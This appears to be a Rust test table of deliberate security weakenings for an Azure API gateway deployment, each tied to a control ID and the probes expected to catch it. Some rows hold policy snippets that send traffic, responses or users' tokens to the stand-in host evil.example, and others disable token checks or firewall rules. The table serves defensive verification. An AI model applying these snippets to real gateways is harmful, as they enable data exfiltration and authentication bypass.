//! One change a row, the control that names it, and what else it legitimately breaks.

/// What is changed, at the resource whose id ends like the row's place.
#[derive(Debug)]
pub(super) enum Change {
    /// The value at a pointer, as JSON; null takes it away.
    Set(&'static str, &'static str),
    /// One more item in a list.
    Push(&'static str, &'static str),
    /// A text of the policy document.
    Text(&'static str, &'static str),
    /// The first element of the policy with this name.
    Drop(&'static str),
    /// The same inside of another one.
    DropIn(&'static str, &'static str),
    /// The first element of the policy with this name in which a text stands.
    DropWith(&'static str, &'static str),
    /// An element of the policy is put under a condition.
    Wrap(&'static str),
    /// One more resource: a child, `providers/type/name` in the group, or a Graph object.
    Add(&'static str, &'static str),
    Gone,
}

/// Why nobody outside sees it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Why {
    /// It is between Azure's own services, or about records.
    Inside,
    /// Another guard still refuses.
    Guarded,
    /// Nobody gets through any more.
    Shut,
    /// An outsider does not know, or have, what it takes.
    Unknown,
}

use Why::{Guarded, Inside, Shut, Unknown};

/// What `verify` makes of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Outside {
    /// These probes fail.
    Seen(&'static [&'static str]),
    Hidden(Why),
    /// It cannot be stored, for this reason.
    Never(&'static str),
    Unsaid,
}

use Change::{Add, Drop, DropIn, DropWith, Gone, Push, Set, Text, Wrap};

#[derive(Debug)]
pub(super) struct Weakening {
    pub(super) control: &'static str,
    /// Environments, all when empty.
    pub(super) environment: &'static str,
    /// `desired` or `live`, both when empty.
    pub(super) only: &'static str,
    pub(super) changes: &'static [(&'static str, Change)],
    /// Controls that the same change breaks too.
    pub(super) also: &'static [&'static str],
    pub(super) outside: Outside,
    /// Where its whole way is tried; one that it is about when empty.
    pub(super) on: &'static str,
    /// It is not the spec's to mend: the finding stands in the plan.
    pub(super) stands: bool,
    /// What else has to change to mend it.
    pub(super) with: &'static str,
}

const fn row(control: &'static str, changes: &'static [(&'static str, Change)]) -> Weakening {
    Weakening {
        control,
        environment: "",
        only: "",
        changes,
        also: &[],
        outside: Outside::Unsaid,
        on: "",
        stands: false,
        with: "",
    }
}

impl Weakening {
    const fn of(self, environment: &'static str) -> Self {
        Self {
            environment,
            ..self
        }
    }

    const fn only(self, only: &'static str) -> Self {
        Self { only, ..self }
    }

    const fn also(self, also: &'static [&'static str]) -> Self {
        Self { also, ..self }
    }

    const fn seen(self, probes: &'static [&'static str]) -> Self {
        Self {
            outside: Outside::Seen(probes),
            ..self
        }
    }

    const fn hidden(self, why: Why) -> Self {
        Self {
            outside: Outside::Hidden(why),
            ..self
        }
    }

    const fn unstored(self, why: &'static str) -> Self {
        Self {
            outside: Outside::Never(why),
            ..self
        }
    }

    const fn on(self, on: &'static str) -> Self {
        Self { on, ..self }
    }

    const fn stands(self) -> Self {
        Self {
            stands: true,
            ..self
        }
    }

    const fn with(self, with: &'static str) -> Self {
        Self { with, ..self }
    }
}

const SERVICE: &str = "service/apim-orders-{env}";
const POLICY: &str = "apis/orders/policies/policy";
const GLOBAL: &str = "service/apim-orders-{env}/policies/policy";
const WEB: &str = "sites/func-orders-{env}/config/web";
const SITE: &str = "sites/func-orders-{env}";
const AUTH: &str = "sites/func-orders-{env}/config/authsettingsV2";
const ROUTE: &str = "routes/gateway";
const ORIGIN: &str = "originGroups/gateway/origins/gateway";
const FIREWALL: &str = "FrontDoorWebApplicationFirewallPolicies/secgwOrders{env}";
const GROUP: &str = "networkSecurityGroups/orders-staging-gateway";
const API_APP: &str = "applications/api";
const STORAGE: &str = "storageAccounts/stee33b73b8b7b589c9cbd31";
const CLIENT: &str = "applications/client-orders-web";

macro_rules! custom {
    ($name:literal) => {
        concat!(
            "/properties/customProperties/Microsoft.WindowsAzure.ApiManagement.Gateway.Security.",
            $name
        )
    };
}

pub(super) const WEAKENINGS: &[Weakening] = &[
    row("APIM-01", &[("apis/orders", Set("/properties/protocols", r#"["http", "https"]"#))]).hidden(Guarded),
    row("APIM-01", &[("apis/orders", Set("/properties/protocols", r#"["ws"]"#))]).hidden(Shut),
    row("APIM-02", &[(SERVICE, Set(custom!("Protocols.Tls10"), r#""True""#))]).hidden(Guarded),
    row("APIM-02", &[(SERVICE, Set(custom!("Protocols.Ssl30"), r#""true""#))]).hidden(Guarded),
    row("APIM-03", &[(SERVICE, Set(custom!("Backend.Protocols.Tls11"), r#""True""#))]).hidden(Inside),
    row("APIM-04", &[(SERVICE, Set(custom!("Backend.Protocols.Tls13"), r#""False""#))]).hidden(Shut),
    row("APIM-04", &[(SERVICE, Set(custom!("Backend.Protocols.Tls13"), "null"))]).hidden(Shut),
    row("APIM-05", &[(SERVICE, Set(custom!("Ciphers.TLS_RSA_WITH_AES_128_CBC_SHA"), "null"))]).of("dev staging").seen(&["B07"]),
    row("APIM-05", &[(SERVICE, Set(custom!("Ciphers.TripleDes168"), r#""True""#))]).of("dev staging").seen(&["B07"]),
    row("APIM-06", &[("privateEndpointConnections/secgw orders-dev", Set("/properties/privateLinkServiceConnectionState/status", r#""Pending""#))])
        .of("dev")
        .also(&["AFD-11"]).hidden(Shut),
    row("APIM-07", &[(SERVICE, Set("/properties/publicNetworkAccess", r#""Enabled""#))]).of("dev prod").seen(&["C01", "C02", "J02"]),
    row("APIM-08", &[("apis/orders", Set("/properties/subscriptionRequired", "true"))]).hidden(Shut),
    row("APIM-08", &[("apis/orders", Set("/properties/subscriptionRequired", "null"))]).hidden(Shut),
    row("APIM-09", &[(SERVICE, Add("subscriptions/everything", r#"{ "properties": { "scope": "/subscriptions/s/resourceGroups/g/providers/Microsoft.ApiManagement/service/x/apis" } }"#))]).hidden(Unknown).stands(),
    row("APIM-10", &[(SERVICE, Add("products/starter", r#"{ "properties": {} }"#))]).hidden(Guarded).stands(),
    row("APIM-12", &[(SERVICE, Set("/identity", "null"))]).also(&["FUN-13"]).hidden(Shut),
    row("APIM-13", &[("tenant/access", Set("/properties/enabled", "true"))]).of("dev staging").seen(&["J01"]),
    row("APIM-13", &[("tenant/gitAccess", Set("/properties/enabled", "true"))]).of("dev staging").seen(&["J01"]),
    row("APIM-17", &[(SERVICE, Add("namedValues/key", r#"{ "properties": { "displayName": "key", "secret": true } }"#))]).hidden(Inside).stands(),
    row("APIM-17", &[(SERVICE, Add("namedValues/key", r#"{ "properties": { "displayName": "key", "secret": true, "keyVault": { "secretIdentifier": "https://kv.vault.azure.net/secrets/a", "lastStatus": { "code": "Forbidden" } } } }"#))]).hidden(Inside).stands(),
    row("APIM-18", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/tls/validateCertificateName", "false"))]).hidden(Inside),
    row("APIM-18", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/url", r#""http://func.azurewebsites.net/api""#))]).also(&["POL-16"]).hidden(Inside),
    row("APIM-18", &[("apis/orders", Set("/properties/serviceUrl", r#""http://func.azurewebsites.net""#))]).also(&["POL-16"]).hidden(Inside),
    row("APIM-19", &[(SERVICE, Set("/properties/hostnameConfigurations", r#"[{ "type": "Proxy", "hostName": "api.contoso.com", "certificateSource": "Custom" }]"#))]).hidden(Guarded).stands(),
    row("APIM-19", &[(SERVICE, Set("/properties/hostnameConfigurations", r#"[{ "type": "Proxy", "hostName": "api.contoso.com", "certificateSource": "KeyVault", "keyVaultId": "https://kv.vault.azure.net/secrets/cert/0123456789abcdef" }]"#))]).hidden(Guarded).stands(),
    row("APIM-19", &[(SERVICE, Set("/properties/hostnameConfigurations", r#"[{ "type": "Proxy", "hostName": "api.contoso.com", "certificateSource": "Managed", "certificate": { "expiry": "2026-12-20T00:00:00Z" } }]"#))]).hidden(Guarded).stands(),
    row("APIM-22", &[("apis/orders", Add("operations/rogue", r#"{ "properties": { "method": "GET", "urlTemplate": "/rogue" } }"#))]).hidden(Guarded),
    row("APIM-22", &[("apis/orders/operations/list-orders", Gone)]).hidden(Shut),
    row("POL-01", &[(POLICY, Drop("validate-jwt"))]).hidden(Shut),
    row("POL-01", &[(POLICY, Wrap("validate-jwt"))]).hidden(Shut),
    row("POL-01", &[(POLICY, Text("header-name=\"Authorization\"", "query-parameter-name=\"token\""))]).hidden(Shut),
    row("POL-01", &[(POLICY, Text("header-name=\"Authorization\"", "header-name=\"X-Token\""))]).hidden(Shut),
    row("POL-01", &[(POLICY, Text("failed-validation-httpcode=\"401\"", "failed-validation-httpcode=\"200\""))]).seen(&["A01", "A02", "A19"]),
    // Answered, or called, for whoever has no token.
    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<return-response><set-status code="200" /></return-response><validate-jwt "#))]).seen(&["A01"]),
    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<choose><when condition="@(context.Request.Headers.ContainsKey(&quot;X-Debug&quot;))"><return-response response-variable-name="r" /></when></choose><validate-jwt "#))]).hidden(Unknown),
    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<mock-response status-code="200" /><validate-jwt "#))]).seen(&["A01"]),
    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<send-request mode="new" response-variable-name="r"><set-url>https://evil.example</set-url></send-request><validate-jwt "#))]).also(&["POL-16"]).hidden(Guarded),
    // Whoever has no token makes the gateway call the function, as the gateway.
    row("POL-01", &[(POLICY, Text("<on-error>", r#"<on-error><send-one-way-request mode="new"><set-url>https://login.microsoftonline.com/x</set-url><authentication-managed-identity resource="api://func" /></send-one-way-request>"#))]).hidden(Inside),
    row("POL-01", &[(POLICY, Text("<on-error>", r#"<on-error><return-response><set-status code="200" /></return-response>"#))]).seen(&["A01"]),
    // The operation's own policy does not run its API's.
    row("POL-01", &[("apis/orders/operations/list-orders", Add("policies/policy", r#"{ "properties": { "format": "rawxml", "value": "<policies><inbound /><backend><base /></backend><outbound><base /></outbound><on-error><base /></on-error></policies>" } }"#))])
        .also(&["POL-10", "POL-11", "POL-14", "POL-16", "POL-17"]).hidden(Guarded),
    row("POL-01", &[(POLICY, Text(" require-scheme=\"Bearer\"", ""))]).seen(&["A03"]),
    row("POL-01", &[(POLICY, Text("require-scheme=\"Bearer\"", "require-scheme=\"Basic\""))]).hidden(Shut),
    row("POL-01", &[(POLICY, Text("output-token-variable-name=\"jwt\"", "output-token-variable-name=\"token\""))]).hidden(Shut),
    row("POL-01", &[(POLICY, Text("<set-backend-service ", r#"<set-variable name="jwt" value="@(context.Request.Headers.GetValueOrDefault(&quot;X-Token&quot;, &quot;&quot;).AsJwt())" /><set-backend-service "#))]).hidden(Inside),
    row("POL-02", &[(POLICY, DropIn("validate-jwt", "audiences"))]).hidden(Guarded),
    row("POL-02", &[(POLICY, DropIn("audiences", "audience"))]).hidden(Guarded),
    row("POL-02", &[(POLICY, Text("<audiences>", "<audiences><audience>11111111-0000-4000-8000-000000000000</audience>"))]).hidden(Unknown),
    row("POL-03", &[(POLICY, DropIn("validate-jwt", "issuers"))]).hidden(Unknown),
    row("POL-03", &[(POLICY, Text("<issuers>", "<issuers><issuer>https://evil.b2clogin.com/x/v2.0/</issuer>"))]).hidden(Unknown),
    row("POL-04", &[(POLICY, Text("<openid-config url=\"https://", "<openid-config url=\"http://"))]).hidden(Shut),
    row("POL-04", &[(POLICY, Text("<openid-config url=\"https://contosob2c.b2clogin.com/", "<openid-config url=\"https://contosob2c.b2clogin.com.evil.example/"))]).hidden(Shut),
    row("POL-04", &[(POLICY, Text("<audiences>", "<openid-config url=\"https://evil.example/keys\" /><audiences>"))]).hidden(Shut),
    row("POL-05", &[(POLICY, Text("require-signed-tokens=\"true\"", "require-signed-tokens=\"false\""))]).seen(&["A13"]),
    row("POL-05", &[(POLICY, Text("require-expiration-time=\"true\"", "require-expiration-time=\"False\""))]).hidden(Unknown),
    row("POL-05", &[(POLICY, Text("clock-skew=\"60\"", "clock-skew=\"86400\""))]).seen(&["A05", "A06"]),
    row("POL-05", &[(POLICY, Text("<audiences>", "<issuer-signing-keys><key>c2VjcmV0</key></issuer-signing-keys><audiences>"))]).hidden(Unknown),
    row("POL-06", &[(POLICY, Text("name=\"scp\"", "name=\"roles\""))]).hidden(Shut),
    row("POL-06", &[(POLICY, Text(" separator=\" \"", ""))]).hidden(Shut),
    row("POL-06", &[(POLICY, Text("separator=\" \">", "separator=\" \"><value>openid</value>"))]).hidden(Guarded),
    row("POL-07", &[(POLICY, Text("name=\"tfp\"", "name=\"idp\""))]).hidden(Shut),
    row("POL-07", &[(POLICY, Text("<value>B2C_1_signin</value>", "<value>B2C_1_signin</value><value>B2C_1_signup</value>"))]).hidden(Unknown),
    row("POL-06", &[(POLICY, Text("value=\"orders.write\"", "value=\"orders.read\""))]).hidden(Unknown),
    row("POL-06", &[(POLICY, DropWith("choose", "Variables[\"required-scopes\"]"))]).seen(&["A11"]),
    row("POL-06", &[(POLICY, Text(".All(scope =>", ".Any(scope =>"))]).hidden(Unknown),
    row("POL-06", &[(POLICY, Drop("otherwise"))]).hidden(Guarded),
    row("POL-06", &[(POLICY, Text("<when condition=\"@(context.Operation.Id == ", "<when condition=\"@(context.Request.Method == \"GET\")\"><set-variable name=\"required-scopes\" value=\"orders.read\" /></when><when condition=\"@(context.Operation.Id == "))]).hidden(Unknown),
    row("POL-08", &[(POLICY, DropWith("claim", "azp"))]).hidden(Unknown),
    row("POL-08", &[(POLICY, Text("<claim name=\"azp\" match=\"any\">", "<claim name=\"azp\" match=\"any\"><value>11111111-0000-4000-8000-000000000000</value>"))]).hidden(Unknown),
    // Whoever has an account in the directory gets in.
    row("IDP-09", &[(POLICY, DropWith("choose", "new string[]"))]).hidden(Unknown),
    row("IDP-09", &[(POLICY, Text("@(!new string[]", "@(false && !new string[]"))]).hidden(Unknown),
    row("IDP-09", &[(POLICY, Text("new string[] { ", "new string[] { \"11111111-0000-4000-8000-000000000000\", "))]).hidden(Unknown),
    row("POL-10", &[(POLICY, Text("<rate-limit-by-key calls=", "<rate-limit-by-key increment-condition=\"@(false)\" calls="))]).on("prod").seen(&["F01"]),
    row("POL-10", &[(POLICY, Text("<rate-limit-by-key calls=", "<rate-limit-by-key increment-count=\"0\" calls="))]).hidden(Unknown),
    row("POL-10", &[(POLICY, Text("<rate-limit-by-key calls=\"", "<rate-limit-by-key calls=\"100"))]).on("prod").seen(&["F01"]),
    row("POL-11", &[(GLOBAL, Text("<rate-limit-by-key calls=\"", "<rate-limit-by-key calls=\"100"))]).seen(&["F02"]),
    row("POL-10", &[(POLICY, Drop("rate-limit-by-key"))]).on("prod").seen(&["F01"]),
    row("POL-11", &[(GLOBAL, Drop("rate-limit-by-key"))]).seen(&["F02"]),
    row("POL-11", &[(GLOBAL, Text("X-Azure-SocketIP", "X-Forwarded-For"))]).seen(&["F02"]),
    row("POL-13", &[(POLICY, Text("<allowed-origins>", "<allowed-origins><origin>*</origin>"))]).seen(&["E01", "E02", "E03"]),
    row("POL-13", &[(POLICY, Text("<allowed-origins>", "<allowed-origins><origin>https://evil.example</origin>"))]).seen(&["E01", "E02"]),
    row("POL-13", &[(POLICY, Text("<allowed-headers>", "<allowed-headers><header>X-Debug</header>"))]).hidden(Guarded),
    row("POL-13", &[(POLICY, Text("allow-credentials=\"false\"", "allow-credentials=\"true\""))]).hidden(Guarded),
    row("POL-13", &[(POLICY, Text("terminate-unmatched-request=\"true\"", "terminate-unmatched-request=\"false\""))]).seen(&["E02"]),
    row("POL-13", &[(POLICY, Text(" terminate-unmatched-request=\"true\"", ""))]).hidden(Guarded),
    row("POL-13", &[(POLICY, Text("<allowed-headers>", "<allowed-headers><header>*</header>"))]).seen(&["E04"]),
    row("POL-14", &[(POLICY, DropIn("outbound", "base"))]).hidden(Guarded),
    row("POL-14", &[(POLICY, DropIn("inbound", "base"))]).also(&["POL-11"]).seen(&["F02"]),
    row("POL-14", &[("policyRestrictions/secgw-orders-{env}--orders", Set("/properties/requireBase", r#""false""#))]).hidden(Inside),
    row("POL-14", &[("policyRestrictions/secgw-orders-{env}--orders", Gone)]).hidden(Inside),
    row("POL-16", &[(POLICY, Drop("authentication-managed-identity"))]).hidden(Shut),
    row("POL-16", &[(POLICY, Text("ignore-error=\"false\"", "ignore-error=\"true\""))]).hidden(Inside),
    row("POL-16", &[(POLICY, Text("<authentication-managed-identity resource=\"", "<authentication-managed-identity resource=\"x"))]).hidden(Shut),
    // The users' calls, and their tokens, go to somebody else.
    row("POL-16", &[(POLICY, Text("<authentication-managed-identity ", r#"<set-backend-service base-url="https://evil.example" /><authentication-managed-identity "#))]).hidden(Shut),
    row("POL-16", &[(POLICY, Text("<set-backend-service backend-id=\"secgw-orders", "<set-backend-service backend-id=\"evil"))]).hidden(Shut),
    row("POL-16", &[(POLICY, Text("<set-backend-service ", r#"<retry condition="@(false)" count="1" interval="1"><send-request mode="new" response-variable-name="r"><set-url>https://evil.example/in</set-url></send-request></retry><set-backend-service "#))]).hidden(Inside),
    row("POL-16", &[(POLICY, Text("<outbound>", r#"<outbound><send-one-way-request mode="new"><set-url>https://evil.example/out</set-url><set-method>POST</set-method></send-one-way-request>"#))]).hidden(Inside),
    row("POL-16", &[(POLICY, Text("<on-error>", r#"<on-error><choose><when condition="@(true)"><send-one-way-request mode="new"><set-url>https://evil.example/errors</set-url></send-one-way-request></when></choose>"#))]).hidden(Inside),
    row("POL-16", &[(GLOBAL, Text("<backend>", r#"<backend><proxy url="http://evil.example:8080" />"#))]).hidden(Shut),
    row("POL-16", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/url", r#""https://evil.example/api""#))]).hidden(Shut),
    row("POL-16", &[("apis/orders", Set("/properties/serviceUrl", r#""https://evil.example""#))]).hidden(Inside),
    row("POL-17", &[(POLICY, Text("name=\"X-User-Id\" exists-action=\"override\"", "name=\"X-User-Id\" exists-action=\"skip\""))]).hidden(Inside),
    row("POL-17", &[(POLICY, Text("name=\"X-User-Scopes\"", "name=\"X-Other\""))]).hidden(Inside),
    row("AFD-01", &[(ROUTE, Set("/properties/httpsRedirect", r#""Disabled""#))]).seen(&["B01"]),
    row("AFD-02", &[(ROUTE, Set("/properties/forwardingProtocol", r#""MatchRequest""#))]).hidden(Inside),
    row("AFD-02", &[(ORIGIN, Set("/properties/enforceCertificateNameCheck", "false"))]).hidden(Inside),
    row("AFD-03", &[("profiles/orders-{env}-edge", Add("customDomains/api", r#"{ "properties": { "hostName": "api.contoso.com", "tlsSettings": { "minimumTlsVersion": "TLS12" } } }"#))]).also(&["WAF-02"]).hidden(Guarded),
    row("AFD-03", &[("profiles/orders-{env}-edge", Add("customDomains/api", r#"{ "properties": { "hostName": "api.contoso.com", "tlsSettings": { "minimumTlsVersion": "TLS13", "cipherSuiteSetType": "TLS12_2023" } } }"#))]).also(&["WAF-02"]).hidden(Guarded),
    row("AFD-05", &[("rules/headers", Set("/properties/conditions", r#"[{ "name": "RequestMethod", "parameters": { "typeName": "DeliveryRuleRequestMethodConditionParameters", "operator": "Equal", "matchValues": ["POST"], "negateCondition": false, "transforms": [] } }]"#))]).hidden(Guarded),
    row("AFD-05", &[("rules/headers", Set("/properties/actions/0/parameters/value", r#""max-age=300""#))]).seen(&["B09"]),
    row("AFD-05", &[(ROUTE, Set("/properties/ruleSets", "[]"))]).hidden(Guarded),
    row("AFD-06", &[(ROUTE, Set("/properties/cacheConfiguration", r#"{ "queryStringCachingBehavior": "UseQueryString" }"#))]).seen(&["H11"]),
    row("AFD-06", &[("rules/banners", Push("/properties/actions", r#"{ "name": "RouteConfigurationOverride", "parameters": { "cacheConfiguration": { "cacheBehavior": "HonorOrigin" } } }"#))]).seen(&["H11"]),
    row("AFD-07", &[(ROUTE, Set("/properties/customDomains", r#"[{ "id": "/subscriptions/s/x" }]"#))]).hidden(Inside),
    row("AFD-09", &[("profiles/orders-{env}-edge/providers/Microsoft.Insights/diagnosticSettings/secgw-orders-{env}--logs", Set("/properties/logs", "[]"))]).hidden(Inside),
    row("AFD-09", &[("profiles/orders-{env}-edge/providers/Microsoft.Insights/diagnosticSettings/secgw-orders-{env}--logs", Gone)]).hidden(Inside),
    row("AFD-11", &[(ORIGIN, Set("/properties/sharedPrivateLinkResource/groupId", r#""gateway""#))]).of("dev prod").hidden(Inside),
    row("AFD-11", &[(ORIGIN, Set("/properties/sharedPrivateLinkResource", "null"))]).of("dev prod").also(&["AFD-12"]).hidden(Shut),
    row("AFD-12", &[(SERVICE, Add("privateEndpointConnections/stranger", r#"{ "properties": { "privateEndpoint": { "id": "/subscriptions/evil/resourceGroups/e/providers/Microsoft.Network/privateEndpoints/e" }, "privateLinkServiceConnectionState": { "status": "Approved", "description": "hello" } } }"#))]).hidden(Unknown).stands(),
    row("WAF-01", &[(FIREWALL, Set("/properties/policySettings/mode", r#""Detection""#))]).seen(&["H10"]),
    row("WAF-01", &[(FIREWALL, Set("/properties/policySettings/enabledState", r#""Disabled""#))]).seen(&["H10"]),
    row("WAF-02", &[("securityPolicies/firewall", Set("/properties/parameters/associations/0/patternsToMatch", r#"["/api/*"]"#))]).seen(&["H10"]),
    row("WAF-02", &[("securityPolicies/firewall", Gone)]).seen(&["H10"]),
    row("WAF-03", &[(FIREWALL, Set("/properties/managedRules/managedRuleSets/0/ruleSetAction", r#""Log""#))]).seen(&["H10"]),
    row("WAF-03", &[(FIREWALL, Set("/properties/managedRules/managedRuleSets/0/ruleSetVersion", r#""1.1""#))]).hidden(Guarded),
    row("WAF-05", &[(FIREWALL, Push("/properties/managedRules/managedRuleSets/0/exclusions", r#"{ "matchVariable": "RequestHeaderNames", "selectorMatchOperator": "Equals", "selector": "x" }"#))]).hidden(Unknown),
    row("WAF-05", &[(FIREWALL, Push("/properties/managedRules/managedRuleSets/0/ruleGroupOverrides", r#"{ "ruleGroupName": "SQLI", "rules": [] }"#))]).hidden(Guarded),
    row("WAF-05", &[(FIREWALL, Push("/properties/managedRules/managedRuleSets/0/ruleGroupOverrides", r#"{ "ruleGroupName": "SQLI", "rules": [{ "ruleId": "942100", "enabledState": "Disabled" }] }"#))]).seen(&["H10"]),
    row("WAF-06", &[(FIREWALL, Set("/properties/customRules/rules/1/action", r#""Log""#))]).seen(&["F03"]),
    row("WAF-06", &[(FIREWALL, Set("/properties/customRules/rules/1/enabledState", r#""Disabled""#))]).seen(&["F03"]),
    row("WAF-06", &[(FIREWALL, Set("/properties/customRules/rules/1/rateLimitThreshold", "1000000"))]).seen(&["F03"]),
    row("WAF-06", &[(FIREWALL, Set("/properties/customRules/rules/1/matchConditions/0/matchValue", r#"["9999"]"#))]).seen(&["F03"]),
    row("WAF-07", &[(FIREWALL, Push("/properties/customRules/rules", r#"{ "name": "Partner", "priority": 1, "ruleType": "MatchRule", "action": "Allow", "matchConditions": [{ "matchVariable": "RemoteAddr", "operator": "IPMatch", "matchValue": ["203.0.113.0/24"] }] }"#))]).hidden(Unknown),
    row("WAF-07", &[(FIREWALL, Push("/properties/customRules/rules", r#"{ "name": "All", "priority": 1, "ruleType": "MatchRule", "action": "Allow", "matchConditions": [{ "matchVariable": "SocketAddr", "operator": "IPMatch", "matchValue": ["0.0.0.0/0"] }] }"#))]).seen(&["H10"]),
    row("NET-01", &[(GROUP, Push("/properties/securityRules", r#"{ "name": "no-management", "properties": { "direction": "Inbound", "access": "Deny", "priority": 105, "protocol": "*", "sourceAddressPrefix": "*", "destinationAddressPrefix": "*", "destinationPortRange": "3443" } }"#))]).of("staging").hidden(Shut),
    row("NET-01", &[(GROUP, Push("/properties/securityRules", r#"{ "name": "no-sql", "properties": { "direction": "Outbound", "access": "Deny", "priority": 101, "protocol": "*", "sourceAddressPrefix": "*", "destinationAddressPrefix": "*", "destinationPortRange": "1000-2000" } }"#))]).of("staging").hidden(Shut),
    row("NET-01", &[("subnets/gateway", Set("/properties/networkSecurityGroup", "null"))]).of("staging").also(&["NET-04"]).hidden(Shut),
    row("NET-02", &[("subnets/gateway", Set("/properties/delegations", r#"[{ "name": "x", "properties": { "serviceName": "Microsoft.Web/serverFarms" } }]"#))]).of("staging").hidden(Inside),
    row("NET-04", &[(GROUP, Push("/properties/securityRules", r#"{ "name": "office", "properties": { "direction": "Inbound", "access": "Allow", "priority": 150, "sourcePortRange": "*", "protocol": "Tcp", "sourceAddressPrefix": "Internet", "destinationAddressPrefix": "*", "destinationPortRange": "443" } }"#))]).of("staging").seen(&["C01", "C02"]),
    row("NET-04", &[(GROUP, Push("/properties/securityRules", r#"{ "name": "anybody", "properties": { "direction": "Inbound", "access": "Allow", "priority": 150, "sourcePortRange": "*", "protocol": "*", "sourceAddressPrefixes": ["10.0.0.0/8", "0.0.0.0/0"], "destinationAddressPrefix": "*", "destinationPortRanges": ["80", "400-500"] } }"#))]).of("staging").seen(&["C01", "C02"]),
    row("POL-09", &[(GLOBAL, Drop("check-header"))]).of("staging").hidden(Guarded),
    row("POL-09", &[(GLOBAL, Text("failed-check-httpcode=\"403\"", "failed-check-httpcode=\"200\""))]).of("staging").hidden(Guarded),
    row("POL-09", &[(GLOBAL, Text("<check-header name=\"X-Azure-FDID\"", "<check-header name=\"X-Forwarded-Host\""))]).of("staging").hidden(Shut),
    row("POL-09", &[("namedValues/secgw-orders-staging--fdid", Set("/properties/value", r#""11111111-0000-4000-8000-000000000000""#))]).of("staging").hidden(Shut),
    row("NET-02", &[("subnets/gateway", Set("/properties/delegations", "[]"))]).of("prod").unstored("Azure refuses it while the subnet is in use"),
    row("NET-02", &[("subnets/functions", Set("/properties/delegations/0/properties/serviceName", r#""Microsoft.Web/serverFarms""#))]).of("prod").unstored("Azure refuses it while the subnet is in use"),
    row("NET-03", &[(SITE, Set("/properties/publicNetworkAccess", r#""Enabled""#))]).of("prod staging").hidden(Guarded),
    row("NET-03", &[("privateEndpoints/orders-{env}-func-orders-{env}", Gone)]).of("prod staging").hidden(Shut),
    row("FUN-01", &[(SITE, Set("/properties/httpsOnly", "false"))]).hidden(Guarded),
    row("FUN-01", &[(SITE, Add("slots/blue", r#"{ "properties": { "httpsOnly": false } }"#))]).unstored("Flex Consumption has no slots"),
    row("FUN-02", &[(WEB, Set("/properties/minTlsVersion", r#""1.2""#))]).seen(&["B05"]).on("dev"),
    row("FUN-05", &[(WEB, Set("/properties/ftpsState", r#""AllAllowed""#))]).hidden(Unknown),
    row("FUN-05", &[(WEB, Set("/properties/ftpsState", r#""FtpsOnly""#))]).hidden(Unknown),
    row("FUN-06", &[("basicPublishingCredentialsPolicies/ftp", Set("/properties/allow", "true"))]).hidden(Unknown),
    row("FUN-07", &[("basicPublishingCredentialsPolicies/scm", Set("/properties/allow", "true"))]).hidden(Guarded),
    row("FUN-08", &[(WEB, Set("/properties/remoteDebuggingEnabled", "true"))]).hidden(Inside),
    row("FUN-08", &[(SITE, Set("/properties/sshEnabled", "true"))]).hidden(Inside),
    row("FUN-09", &[(WEB, Set("/properties/ipSecurityRestrictionsDefaultAction", r#""Allow""#))]).on("dev").seen(&["D01", "D02"]),
    row("FUN-10", &[(WEB, Push("/properties/ipSecurityRestrictions", r#"{ "name": "office", "priority": 200, "action": "Allow", "tag": "Default", "ipAddress": "203.0.113.0/24" }"#))]).of("dev").hidden(Unknown),
    row("FUN-10", &[(WEB, Push("/properties/ipSecurityRestrictions", r#"{ "name": "cloud", "priority": 200, "action": "Allow", "tag": "ServiceTag", "ipAddress": "AzureCloud" }"#))]).of("dev").hidden(Unknown),
    row("FUN-10", &[(WEB, Set("/properties/ipSecurityRestrictions", "[]"))]).of("dev").hidden(Shut),
    row("FUN-11", &[(WEB, Set("/properties/scmIpSecurityRestrictionsDefaultAction", r#""Allow""#))]).on("dev").seen(&["D03"]),
    row("FUN-11", &[(WEB, Push("/properties/scmIpSecurityRestrictions", r#"{ "name": "all", "priority": 1, "action": "Allow", "ipAddress": "0.0.0.0/0" }"#))]).on("dev").seen(&["D03"]),
    row("FUN-13", &[(AUTH, Set("/properties/platform/enabled", "false"))]).hidden(Guarded),
    row("FUN-13", &[(AUTH, Set("/properties/globalValidation/requireAuthentication", "false"))]).hidden(Guarded),
    row("FUN-13", &[(AUTH, Set("/properties/globalValidation/unauthenticatedClientAction", r#""AllowAnonymous""#))]).hidden(Guarded),
    row("FUN-13", &[(AUTH, Set("/properties/globalValidation/excludedPaths", r#"["/api/health"]"#))]).hidden(Guarded),
    row("FUN-13", &[(AUTH, Push("/properties/identityProviders/azureActiveDirectory/validation/defaultAuthorizationPolicy/allowedApplications", r#""11111111-0000-4000-8000-000000000000""#))]).hidden(Guarded),
    row("FUN-13", &[(AUTH, Set("/properties/identityProviders/azureActiveDirectory/validation/defaultAuthorizationPolicy", "null"))]).hidden(Guarded),
    row("FUN-15", &[("config/appsettings", Set("/properties/AzureWebJobsStorage", r#""DefaultEndpointsProtocol=https""#))]).hidden(Inside).stands(),
    row("FUN-15", &[(SITE, Set("/identity", "null"))]).hidden(Inside),
    row("FUN-15", &[(STORAGE, Set("/properties/allowSharedKeyAccess", "true"))]).of("dev").hidden(Unknown),
    row("FUN-15", &[(STORAGE, Set("/properties/allowBlobPublicAccess", "true"))]).of("dev").hidden(Guarded),
    row("IDP-01", &[(API_APP, Set("/api/requestedAccessTokenVersion", "1"))]).hidden(Shut),
    row("IDP-01", &[(API_APP, Set("/api/oauth2PermissionScopes/0/isEnabled", "false"))]).hidden(Shut),
    row("IDP-02", &[(API_APP, Set("/signInAudience", r#""AzureADMultipleOrgs""#))]).hidden(Unknown),
    row("IDP-03", &[(API_APP, Set("/web/implicitGrantSettings/enableIdTokenIssuance", "true"))]).hidden(Guarded),
    row("IDP-04", &[(API_APP, Push("/spa/redirectUris", r#""https://evil.example/cb""#))]).hidden(Unknown),
    row("IDP-04", &[(API_APP, Push("/web/redirectUris", r#""http://app.contoso.com/auth""#))]).hidden(Unknown),
    row("IDP-05", &[(API_APP, Set("/isFallbackPublicClient", "true"))]).hidden(Guarded),
